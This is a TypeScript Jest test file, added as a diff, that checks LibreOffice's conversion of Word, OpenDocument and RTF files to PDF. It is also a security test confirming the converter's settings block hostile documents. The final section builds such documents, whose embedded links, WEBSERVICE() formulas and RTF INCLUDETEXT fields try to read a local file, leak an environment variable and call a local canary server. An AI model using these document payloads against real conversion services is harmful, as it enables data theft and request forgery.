@@ -1,0 +1,233 @@
+import { execFile, execFileSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import { OFFICE_FORMATS, type OfficeFormat } from '../../../../media/office/office-format.ts';
+import { convertToPdf, sofficeArguments } from '../../../../media/office/run-soffice.ts';
+import { profileSettings } from '../../../../media/office/soffice-profile.ts';
+import { stabilisePdf } from '../../../../media/office/stable-pdf.ts';
+import { writeDocx, writeOdf } from '../../../../samples/write-office.ts';
+import { processed } from '../document/setup.ts';
+
+const installed = (program: string) => {
+  try {
+    execFileSync('which', [program]);
+    return true;
+  } catch {
+    return false;
+  }
+};
+const withOffice = installed('soffice') ? describe : describe.skip;
+if (!installed('soffice'))
+  console.warn('SKIPPED: every test of LibreOffice, since soffice is not installed (make .office)');
+
+// Debian's parts; LibreOffice from elsewhere is whole.
+const withMath =
+  existsSync('/usr/lib/libreoffice/program') && !existsSync('/usr/lib/libreoffice/program/libsmlo.so')
+    ? describe.skip
+    : withOffice;
+if (withMath !== withOffice)
+  console.warn('SKIPPED: the test of equations, since LibreOffice Math is not installed (make .office)');
+
+const formatOf = (extension: string) =>
+  Object.values(OFFICE_FORMATS).find((known) => known.extension === extension) as OfficeFormat;
+
+async function inDirectory<Result>(work: (directory: string) => Promise<Result>): Promise<Result> {
+  const directory = await mkdtemp(join(tmpdir(), 'office-test-'));
+  try {
+    return await work(directory);
+  } finally {
+    await rm(directory, { recursive: true, force: true });
+  }
+}
+
+function converted(extension: string, content: Buffer, signal?: AbortSignal): Promise<Buffer> {
+  return inDirectory(async (directory) => {
+    const file = join(directory, `source.${extension}`);
+    await writeFile(file, content);
+    const pdf = await convertToPdf({ file, directory, format: formatOf(extension), signal });
+    await stabilisePdf(pdf, { source: file, date: '2024-03-01T08:30:00.000Z' });
+    return readFile(pdf);
+  });
+}
+
+const docx = writeDocx({
+  title: 'Minutes',
+  paragraphs: ['Present: the whole board.', 'Überraschung: 日本語.'],
+});
+const cell = (formula: string) =>
+  `<table:table table:name="A"><table:table-row><table:table-cell table:formula="${formula}" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`;
+const frame = (content: string) =>
+  `<text:p>before<draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="paragraph">${content}</draw:frame></text:p>`;
+const link = (href: string) =>
+  `xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
+
+withOffice('LibreOffice makes a PDF of', () => {
+  const slide =
+    '<draw:page draw:name="one"><draw:frame svg:x="1cm" svg:y="1cm" svg:width="10cm" svg:height="3cm"><draw:text-box><text:p>Present it</text:p></draw:text-box></draw:frame></draw:page>';
+  const cases: [label: string, extension: string, content: Buffer, text: RegExp][] = [
+    ['a Word document', 'docx', docx, /^Minutes\nPresent: the whole board\.\nÜberraschung: 日本語\./],
+    [
+      'an OpenDocument text',
+      'odt',
+      writeOdf({ kind: 'text', body: '<text:p>Write it</text:p>' }),
+      /^Write it\n/,
+    ],
+    ['a spreadsheet', 'ods', writeOdf({ kind: 'spreadsheet', body: cell('of:=20+22') }), /42|x/],
+    ['a presentation', 'odp', writeOdf({ kind: 'presentation', body: slide }), /^Present it\n/],
+    ['RTF', 'rtf', Buffer.from('{\\rtf1\\ansi Rich \\b text\\b0 .}'), /^Rich text\.\n/],
+  ];
+  test.each(cases)('%s', async (_, extension, content, text) => {
+    const made = await processed(await converted(extension, content));
+    expect(made.text).toMatch(text);
+    expect(made.metadata).toMatchObject({
+      pages: 1,
+      createdAt: '2024-03-01T08:30:00.000Z',
+      producer: expect.stringMatching(/^LibreOffice/),
+    });
+  });
+
+  test('the same bytes each time', async () => {
+    const [first, second] = [await converted('docx', docx), await converted('docx', docx)];
+    expect(first.equals(second)).toBe(true);
+  });
+});
+
+withMath('LibreOffice with Math', () => {
+  test('keeps the equations of a Word document', async () => {
+    const run = (text: string) => `<m:r><m:t>${text}</m:t></m:r>`;
+    const fraction = `<m:f><m:num>${run('alpha')}</m:num><m:den>${run('beta')}</m:den></m:f>`;
+    const body = `<w:p><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">${fraction}</m:oMath></w:p>`;
+    const made = await processed(
+      await converted('docx', writeDocx({ title: 'Equation', paragraphs: [], body })),
+    );
+    expect(made.text).toMatch(/alpha\s+beta/);
+  });
+});
+
+withOffice('LibreOffice refuses or survives', () => {
+  const refused: [label: string, extension: string, content: Buffer][] = [
+    ['an archive that is no document', 'docx', Buffer.from('PK\x03\x04 nonsense', 'latin1')],
+    ['HTML that calls itself a Word document', 'docx', Buffer.from('<html><body>hi</body></html>')],
+  ];
+  test.each(refused)('%s', async (_, extension, content) => {
+    await expect(converted(extension, content)).rejects.toMatchObject({ name: 'CorruptMedia' });
+  });
+
+  test('being told to stop: it is gone, and the reason comes out', async () => {
+    const stop = new AbortController();
+    const running = converted('docx', docx, stop.signal);
+    setTimeout(() => stop.abort(), 300);
+    await expect(running).rejects.toMatchObject({ name: 'Interrupted' });
+  });
+});
+
+withOffice('a hostile document', () => {
+  const requests: string[] = [];
+  const server = createServer((request, response) => {
+    requests.push(`${request.method} ${request.url}`);
+    response.end('canary');
+  });
+  let address: string;
+  let secret: string;
+  beforeAll(async () => {
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    secret = await mkdtemp(join(tmpdir(), 'secret-'));
+    await writeFile(join(secret, 'canary.txt'), 'CANARY in a file');
+    process.env.CANARY = 'CANARY-in-the-environment';
+  });
+  afterAll(async () => {
+    server.close();
+    delete process.env.CANARY;
+    await rm(secret, { recursive: true });
+  });
+
+  const attacks: [label: string, extension: string, make: () => Buffer][] = [
+    [
+      'an image elsewhere',
+      'odt',
+      () => writeOdf({ kind: 'text', body: frame(`<draw:image ${link(`${address}/image.png`)}/>`) }),
+    ],
+    [
+      'an object elsewhere',
+      'odt',
+      () => writeOdf({ kind: 'text', body: frame(`<draw:object ${link(`${address}/object.ods`)}/>`) }),
+    ],
+    [
+      'a frame elsewhere',
+      'odt',
+      () =>
+        writeOdf({ kind: 'text', body: frame(`<draw:floating-frame ${link(`${address}/frame.html`)}/>`) }),
+    ],
+    [
+      'the environment in an address',
+      'odt',
+      () =>
+        writeOdf({
+          kind: 'text',
+          body: frame(`<draw:image ${link(`vnd.sun.star.expand:${address}/$CANARY`)}/>`),
+        }),
+    ],
+    [
+      'a section that is a file of ours',
+      'odt',
+      () =>
+        writeOdf({
+          kind: 'text',
+          body: `<text:section text:name="s"><text:section-source xlink:href="file://${secret}/canary.txt" xlink:type="simple" text:filter-name="Text"/><text:p>old</text:p></text:section>`,
+        }),
+    ],
+    [
+      'WEBSERVICE()',
+      'ods',
+      () => writeOdf({ kind: 'spreadsheet', body: cell(`of:=WEBSERVICE(&quot;${address}/service&quot;)`) }),
+    ],
+    [
+      'a field that includes a file and a picture',
+      'rtf',
+      () =>
+        Buffer.from(
+          `{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "${address}/p.png" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "file://${secret}/canary.txt"}{\\fldrslt y}}}`,
+        ),
+    ],
+  ];
+  test.each(attacks)('with %s learns nothing and reaches nobody', async (_, extension, make) => {
+    requests.length = 0;
+    const pdf = await converted(extension, make());
+    const { text } = await processed(pdf);
+    expect(requests).toEqual([]);
+    expect(text + pdf.toString('latin1')).not.toContain('CANARY');
+  });
+
+  /** LibreOffice with a network, as on Fargate, and with or without our profile; not even the dead proxy. */
+  const opened = (profile: string | undefined) =>
+    inDirectory(async (directory) => {
+      const file = join(directory, 'source.odt');
+      const body =
+        frame(`<draw:image ${link(`${address}/image.png`)}/>`) +
+        frame(`<draw:object ${link(`${address}/object.ods`)}/>`);
+      await writeFile(file, writeOdf({ kind: 'text', body }));
+      const [profileFolder, output] = [join(directory, 'profile'), join(directory, 'output')];
+      await mkdir(join(profileFolder, 'user'), { recursive: true });
+      if (profile) await writeFile(join(profileFolder, 'user', 'registrymodifications.xcu'), profile);
+      requests.length = 0;
+      const args = sofficeArguments(file, profileFolder, output, formatOf('odt'));
+      await promisify(execFile)('soffice', args, { env: { PATH: process.env.PATH, HOME: directory } });
+      return requests;
+    });
+
+  test('is kept silent by our settings alone, too', async () => {
+    const withoutProxy = profileSettings().replace(/<item oor:path="\/org.openoffice.Inet.*/g, '');
+    expect(await opened(withoutProxy)).toEqual([]);
+  });
+
+  test('would reach somebody without them: the canary sings', async () => {
+    expect(await opened(undefined)).toEqual(expect.arrayContaining(['GET /image.png', 'GET /object.ods']));
+  });
+});
